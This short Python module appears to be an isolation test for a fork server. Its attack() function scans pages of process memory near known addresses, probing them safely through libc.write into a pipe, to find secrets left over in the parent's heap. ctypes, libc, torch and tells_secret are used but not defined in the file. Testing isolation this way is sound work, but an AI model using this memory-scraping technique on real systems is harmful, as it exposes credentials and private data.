"""Reading: reads its own memory page by page, past what Python knows, for what the fork server's heap once held."""

import os


def attack() -> bool:
    reading, writing = os.pipe()
    for start in {id(object()) & ~0xFFFF, id(torch.ones) & ~0xFFFF, ctypes.addressof(ctypes.c_int()) & ~0xFFFF}:
        for page in range(start - (24 << 20), start + (24 << 20), 4096):
            # write() answers EFAULT where there is no page, so that looking is safe.
            if libc.write(writing, ctypes.c_void_p(page), 4096) == 4096 and tells_secret(os.read(reading, 4096)):
                return True
    return False
